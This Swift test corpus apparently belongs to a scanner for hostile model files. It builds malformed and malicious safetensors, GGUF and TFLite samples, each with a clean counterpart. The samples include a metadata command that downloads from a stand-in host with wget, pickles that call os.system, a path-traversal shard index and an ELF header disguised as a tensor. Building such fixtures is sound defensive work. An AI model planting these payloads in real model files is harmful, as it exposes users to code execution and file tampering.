import Bytes
import Findings
import TestSupport

// Hostile safetensors, GGUF and TFLite files.
extension Corpus {
  private static func tensors(_ header: String, _ buffer: [UInt8] = [UInt8](repeating: 0, count: 8))
    -> [UInt8]
  {
    SafetensorsBuilder(header: header, buffer: buffer).bytes
  }

  private static func tensor(_ name: String, _ begin: Int, _ end: Int, shape: String = "[2]")
    -> String
  {
    #""\#(name)":{"dtype":"F32","shape":\#(shape),"data_offsets":[\#(begin),\#(end)]}"#
  }

  private static let headers: [(name: String, text: String)] = [
    ("tensors that overlap", "{\(tensor("a", 0, 8)),\(tensor("b", 0, 8))}"),
    ("a hole", "{\(tensor("a", 4, 8, shape: "[1]"))}"),
    ("a name twice", "{\(tensor("a", 0, 8)),\(tensor("a", 0, 8))}"),
    ("a shape of flags", "{\(tensor("a", 0, 8, shape: "[true]"))}"),
    ("a size that wraps", "{\(tensor("a", 0, 8, shape: "[4611686018427387904,4]"))}"),
    ("an offset past the end", "{\(tensor("a", 0, 4096, shape: "[1024]"))}"),
    ("offsets that descend", "{\(tensor("a", 8, 0))}"),
    ("fewer bytes than the shape", "{\(tensor("a", 0, 8, shape: "[4]"))}"),
    ("metadata that is no text", "{\"__metadata__\":{\"a\":1},\(tensor("a", 0, 8))}"),
    ("metadata in a list", "{\"__metadata__\":[\"format\",\"pt\"],\(tensor("a", 0, 8))}"),
    ("an unknown dtype", #"{"a":{"dtype":"OBJ","shape":[2],"data_offsets":[0,8]}}"#),
  ]

  private static func shards(_ second: String) -> [UInt8] {
    var archive = ZipBuilder()
    archive.add("m/a.safetensors", tensors("{\(tensor("a", 0, 8))}"))
    archive.add("m/b.safetensors", tensors("{\(tensor("b", 0, 8))}"))
    archive.add(
      "m/model.safetensors.index.json",
      Array(#"{"weight_map":{"a":"a.safetensors","b":"\#(second)"}}"#.utf8))
    return archive.bytes
  }

  private static let oneTensor: @Sendable () -> [UInt8] = { SafetensorsBuilder.one.bytes }

  static let safetensorsFiles: [HostileFile] =
    headers.map { row in
      HostileFile(
        "safetensors: \(row.name)", .safetensorsLie, .high, in: "model.safetensors",
        bytes: { tensors(row.text) }, clean: oneTensor)
    }
    + [
      HostileFile(
        "safetensors: a header of 2^63 bytes", .safetensorsHeader, .high, in: "model.safetensors",
        bytes: {
          var file = SafetensorsBuilder.one
          file.headerLength = 1 << 63
          return file.bytes
        }),
      HostileFile(
        "safetensors: a header that leaves the file", .safetensorsLie, .high,
        in: "model.safetensors",
        bytes: {
          var file = SafetensorsBuilder.one
          file.headerLength = 4_096
          return file.bytes
        }),
      HostileFile(
        "safetensors: a header padded with zeros", .safetensorsHeader, .high,
        in: "model.safetensors",
        bytes: { tensors("{\(tensor("a", 0, 8))}\u{0}\u{0}\u{0}\u{0}") },
        clean: { tensors("{\(tensor("a", 0, 8))}    ") }),
      HostileFile(
        "safetensors: bytes after the last tensor", .safetensorsLie, .high,
        in: "model.safetensors",
        bytes: { SafetensorsBuilder.one.bytes + [1, 2, 3] }, clean: oneTensor),
      HostileFile(
        "safetensors: code in the metadata", .modelText, .high, in: "model.safetensors",
        bytes: { tensors("{\"__metadata__\":{\"a\":\"eval(input())\"},\(tensor("a", 0, 8))}") },
        clean: { tensors("{\"__metadata__\":{\"format\":\"pt\"},\(tensor("a", 0, 8))}") }),
      HostileFile(
        "safetensors: commands in the metadata", .modelText, .high, in: "model.safetensors",
        source: "modelaudit",
        bytes: {
          tensors(
            "{\"__metadata__\":{\"setup\":\"cd /tmp && wget http://a.b/c\"},\(tensor("a", 0, 8))}")
        },
        clean: {
          tensors(
            "{\"__metadata__\":{\"source\":\"wget's mirror\"},\(tensor("a", 0, 8))}")
        }),
      HostileFile(
        "safetensors: a pickle in the metadata, in base64", .dangerousImport, .critical,
        in: "model.safetensors",
        bytes: {
          let text = Base64.encode(PickleBuilder.call("os", "system", "id"))
          return tensors("{\"__metadata__\":{\"state\":\"\(text)\"},\(tensor("a", 0, 8))}")
        },
        clean: {
          let text = Base64.encode(Array("a picture's bytes".utf8))
          return tensors("{\"__metadata__\":{\"icon\":\"\(text)\"},\(tensor("a", 0, 8))}")
        }),
      HostileFile(
        "safetensors: a configuration with code of its own in the metadata", .repositoryCode, .high,
        in: "model.safetensors",
        bytes: {
          let config = #"{\"auto_map\":{\"AutoModel\":\"evil.Model\"}}"#
          return tensors("{\"__metadata__\":{\"config\":\"\(config)\"},\(tensor("a", 0, 8))}")
        },
        clean: {
          let config = #"{\"model_type\":\"bert\"}"#
          return tensors("{\"__metadata__\":{\"config\":\"\(config)\"},\(tensor("a", 0, 8))}")
        }),
      HostileFile(
        "safetensors: a key of AWS in a configuration in the metadata", .serviceToken, .high,
        in: "model.safetensors",
        bytes: {
          let config = #"{\"key\":\"AKIA"# + #"Q3EGRVW5ZT7PLK2M\"}"#
          return tensors("{\"__metadata__\":{\"config\":\"\(config)\"},\(tensor("a", 0, 8))}")
        },
        clean: {
          let config = #"{\"key\":\"AKIAIOSFODNN7EXAMPLE\"}"#
          return tensors("{\"__metadata__\":{\"config\":\"\(config)\"},\(tensor("a", 0, 8))}")
        }),
      HostileFile(
        "safetensors: a tensor that is a program", .tensorIsFile, .high, in: "model.safetensors",
        bytes: { tensors("{\(tensor("a", 0, 8))}", [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) }),
      HostileFile(
        "safetensors: a tensor that is a pickle", .dangerousImport, .critical,
        in: "model.safetensors",
        bytes: {
          var pickle = PickleBuilder.call("os", "system", "id")
          while pickle.count % 4 != 0 { pickle.append(0) }
          let header = tensor("a", 0, pickle.count, shape: "[\(pickle.count / 4)]")
          return tensors("{\(header)}", pickle)
        }),
      HostileFile(
        "safetensors: an index that leads outside", .shardsDisagree, .high, in: "release.zip",
        bytes: { shards("../../etc/b.safetensors") }, clean: { shards("b.safetensors") }),
      HostileFile(
        "safetensors: an index that names the wrong shard", .shardsDisagree, .high,
        in: "release.zip", bytes: { shards("a.safetensors") }, clean: { shards("b.safetensors") }),
    ]

  private static func gguf(_ change: (inout GGUFBuilder) -> Void) -> [UInt8] {
    var file = GGUFBuilder.one
    change(&file)
    return file.bytes
  }

  private static func ggufRow(
    _ name: String, source: String = "own",
    _ change: @escaping @Sendable (inout GGUFBuilder) -> Void
  ) -> HostileFile {
    HostileFile(
      "GGUF: \(name)", .ggufBounds, .high, in: "model.gguf", source: source,
      bytes: { gguf(change) }, clean: { GGUFBuilder.one.bytes })
  }

  static let ggufFiles: [HostileFile] = [
    ggufRow("2^40 pairs") { $0.pairCount = 1 << 40 },
    ggufRow("2^63 tensors") { $0.tensorCount = 1 << 63 },
    ggufRow("a text of 2^63 bytes") { file in
      file.pair("a", type: 8, GGUFBuilder.text("b", claiming: 1 << 63))
    },
    ggufRow("a text past the end") { file in
      file.pair("a", type: 8, GGUFBuilder.text("b", claiming: 1 << 20))
    },
    ggufRow("arrays in an array") { $0.pair("a", type: 9, little(9, 4) + little(1, 8)) },
    ggufRow("2^62 numbers") { $0.pair("a", type: 9, little(4, 4) + little(1 << 62, 8)) },
    ggufRow("a value of type 99") { $0.pair("a", type: 99, little(0, 8)) },
    ggufRow("an alignment of 0") { $0.pair("general.alignment", type: 4, little(0, 4)) },
    ggufRow("an alignment of 3") { $0.pair("general.alignment", type: 4, little(3, 4)) },
    ggufRow("a tensor of 5 axes") { $0.tensor("v", [1, 1, 1, 1, 1], offset: 32) },
    ggufRow("a tensor of 2^31 axes") { $0.tensor("v", [1], offset: 32, rank: 1 << 31) },
    ggufRow("sizes whose product wraps", source: "CVE-2026-33298") {
      $0.tensor("v", [1 << 32, 1 << 32, 4], offset: 32)
    },
    ggufRow("a tensor of type 99") { $0.tensor("v", [4], type: 99, offset: 32) },
    ggufRow("tensors that overlap") { $0.tensor("v", [4], offset: 0) },
    ggufRow("a tensor past the end", source: "CVE-2026-27940") {
      $0.tensor("v", [4_096], offset: 32)
    },
    ggufRow("an offset that is not aligned") { $0.tensor("v", [1], offset: 17) },
    ggufRow("a part of a block") { $0.tensor("v", [31], type: 8, offset: 32) },
    ggufRow("a tensor's name of 200 bytes") {
      $0.tensor(String(repeating: "a", count: 200), [1], offset: 32)
    },
    HostileFile(
      "GGUF: a key twice", .ggufAmbiguous, .high, in: "model.gguf",
      bytes: { gguf { $0.text("general.architecture", "gemma") } }),
    HostileFile(
      "GGUF: a tensor twice", .ggufAmbiguous, .high, in: "model.gguf",
      bytes: {
        gguf { file in
          file.tensor("w", [4], offset: 32)
          file.data += [UInt8](repeating: 0, count: 32)
        }
      }),
    HostileFile(
      "GGUF: bytes after the last tensor", .strayBytes, .high, in: "model.gguf",
      bytes: { GGUFBuilder.one.bytes + Array("payload".utf8) }),
    HostileFile(
      "GGUF: behind a program", .modelExecutable, .high, in: "model.gguf",
      bytes: {
        [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56)
          + GGUFBuilder.one.bytes
      }),
    HostileFile(
      "GGML from before GGUF", .boundedOnly, .high, in: "model.ggml",
      bytes: { Array("tjgg".utf8) + little(3, 4) + [UInt8](repeating: 0xff, count: 64) }),
  ]

  private static func lite(_ change: (inout TFLiteBuilder) -> Void = { _ in }) -> [UInt8] {
    var file = TFLiteBuilder()
    change(&file)
    return file.bytes
  }

  private static func liteRow(
    _ name: String, _ rule: Rule = .liteBounds,
    _ change: @escaping @Sendable (inout TFLiteBuilder) -> Void
  ) -> HostileFile {
    HostileFile(
      "TFLite: \(name)", rule, .high, in: "model.tflite", bytes: { lite(change) },
      clean: { lite() })
  }

  static let tfliteFiles: [HostileFile] = [
    liteRow("a custom operator", .liteCustomOperator) {
      $0.codes = [[.int8(32), .text("Evil"), nil, .int32(32)]]
    },
    liteRow("an operator of TensorFlow", .liteCustomOperator) {
      $0.codes = [[.int8(32), .text("FlexReadFile"), nil, .int32(32)]]
    },
    liteRow("an operator that is not there") { $0.operators[0][0] = .int32(7) },
    liteRow("a negative operator") { $0.operators[0][0] = .int32(-1) },
    liteRow("a tensor that is not there") { $0.operators[0][1] = .integers([0, 99]) },
    liteRow("an output that is not there") { $0.operators[0][2] = .integers([-1]) },
    liteRow("a buffer that is not there") { $0.tensors[1][2] = .int32(9) },
    liteRow("fewer bytes than the shape") { $0.tensors[1][0] = .integers([64, 64]) },
    liteRow("a negative size") { $0.tensors[1][0] = .integers([-2, -2]) },
    liteRow("a vector outside") { $0.tensors[1][0] = .distance(0x7fff_ffff) },
    liteRow("a table outside") { $0.operators[0][1] = .distance(-16) },
    liteRow("data outside") {
      $0.buffers[1] = [nil, .uint64(1 << 40), .uint64(16)]
    },
    liteRow("a loop over itself") {
      $0.codes = [[.int8(119), nil, nil, .int32(119)]]
      $0.operators[0] += [.int8(93), .table([.int32(0), .int32(0)])]
    },
    liteRow("a loop over no subgraph") {
      $0.codes = [[.int8(119), nil, nil, .int32(119)]]
      $0.operators[0] += [.int8(93), .table([.int32(5), .int32(6)])]
    },
  ]
}
